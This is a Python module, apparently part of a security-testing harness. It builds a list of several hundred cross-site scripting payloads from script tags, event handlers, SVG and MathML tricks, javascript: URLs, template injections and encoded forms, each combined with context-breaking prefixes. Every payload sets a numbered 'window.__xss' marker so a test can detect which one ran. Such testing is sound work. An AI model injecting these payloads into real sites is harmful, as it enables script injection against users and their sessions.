"""Text that would run in a browser if any page took it for markup: each sets `window.__xss` to its own number."""

import re
from collections.abc import Iterator

RUNS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<script>{run}<!--",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img src=x onerror\n=\n{run}>",
    "<img src=`x` onerror={run}>",
    "<image href=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><image href=x onerror={run}></svg>",
    "<svg><a href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>x",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<div tabindex=1 autofocus onfocus={run}>x",
    "<details open ontoggle={run}>",
    "<video src=x onerror={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=x onerror={run}>",
    "<embed src=javascript:{run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>",
    "<iframe onload={run}>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style>@import 'x';</style><style onload={run}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form><button formaction=javascript:{run} autofocus onfocus={run}>x",
    "<marquee onstart={run}>x</marquee>",
    "<template><img src=x onerror={run}></template><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<p style=animation-name:arrive onanimationstart={run}>x",
    "<x onbeforematch={run} hidden=until-found>",
    "<dialog open onfocusin={run} autofocus tabindex=1>x",
    "<xss contenteditable autofocus onfocus={run}>x",
    "javascript:{run}",
    "\u2028{run}\u2029",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\x3cimg src=x onerror={run}\\x3e",
    "\\u003cimg src=x onerror={run}\\u003e",
    "%3Cimg src=x onerror={run}%3E",
    "＜img src=x onerror={run}＞",
    "<scr\u200bipt>{run}</script><img\u00a0src=x onerror={run}>",
)
BEFORE = ("", '">', "'>", "</textarea>", "</title></script>", "--></style>")
"""What ends the place that the text may stand in."""

PAYLOADS = tuple(
    before + run.format(run=f"window.__xss={number}")
    for number, (before, run) in enumerate(((b, r) for b in BEFORE for r in RUNS), start=1)
)
NUMBER = re.compile(r"window\.__xss=(\d+)")


def numbers(text: str) -> set[int]:
    """The payloads that stand in `text`."""
    return {int(found) for found in NUMBER.findall(text)}


class Spreader:
    """Hands the payloads out in turn, as many at once as a place has room for."""

    def __init__(self) -> None:
        self._rest: Iterator[str] = iter(())

    def one(self) -> str:
        for found in self._rest:
            return found
        self._rest = iter(PAYLOADS)
        return next(self._rest)

    def fill(self, room: int) -> str:
        """Payloads, one after the other, of at most `room` characters."""
        text = self.one()[:room]
        while len(text) < room - 100:
            text += " " + self.one()
        return text[:room]
